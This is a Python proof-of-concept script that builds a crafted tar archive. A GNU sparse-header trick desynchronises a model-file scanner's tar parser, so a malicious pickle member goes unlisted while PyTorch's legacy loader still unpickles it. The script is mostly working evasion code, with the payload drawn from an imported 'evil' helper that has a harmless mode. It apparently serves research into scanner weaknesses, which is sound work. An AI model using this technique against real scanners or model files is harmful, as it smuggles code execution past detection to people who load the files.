# Python's tarfile reads GNU sparse ('S') extension blocks (isextended flag, byte 482) before the member data;
# the scanner's listTar does not, so its member list is shifted by 512 bytes after a sparse member and the
# 'pickle' member torch's legacy tar path unpickles (tar.extractfile('pickle')) is never listed. The evil
# pickle has no PROTO and follows a zero-filled tar header, so the whole-file walker (desynchronised) skips it.
# usage: python3 t1_tar_sparse.py OUT [print]
import sys, struct, pickle, tarfile, io; import os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'lib')); from common import evil
out = sys.argv[1]; harmless = len(sys.argv) > 2
E = evil(harmless, proto=0)
def hdr(name, size, typ=b'0', sparse_ext=False):
    b = bytearray(512)
    b[0:len(name)] = name
    b[100:108] = b'0000644\0'; b[108:116] = b'0000000\0'; b[116:124] = b'0000000\0'
    b[124:136] = b'%011o\0' % size; b[136:148] = b'00000000000\0'; b[156:157] = typ
    if typ == b'S':
        for p in range(386, 386 + 96, 12): b[p:p+12] = b'00000000000\0'
        b[483:495] = b'%011o\0' % size
        b[482] = 1 if sparse_ext else 0
    b[148:156] = b'        '; b[148:156] = b'%06o\0 ' % sum(b)
    return bytes(b)
def pad(d): return d + b'\0' * (-len(d) % 512)
P = lambda o: pickle.dumps(o, protocol=2)
storages = P(0) + P([])
tensors = P(0)
f = hdr(b'storages', len(storages)) + pad(storages) + hdr(b'tensors', len(tensors)) + pad(tensors)
# sparse member, 512 bytes of (tarfile) data; scanner reads the extension block as its data
S = 512
f += hdr(b'sp', S, b'S', sparse_ext=True) + b'\0' * 512        # header + extension block (isextended=0)
# tarfile data of 'sp' (512 bytes) = what the scanner takes as the next header: a dummy regular member
# whose data swallows the real 'pickle' header and its data
pk = hdr(b'pickle', len(E)) + pad(E)
f += hdr(b'dummy', len(pk)) + pk
f += b'\0' * 1024
open(out, 'wb').write(f)
if harmless:
    with tarfile.open(out, 'r:') as t:
        print('tarfile members:', t.getnames())
        print('unpickling pickle member ->', pickle.load(t.extractfile('pickle')))
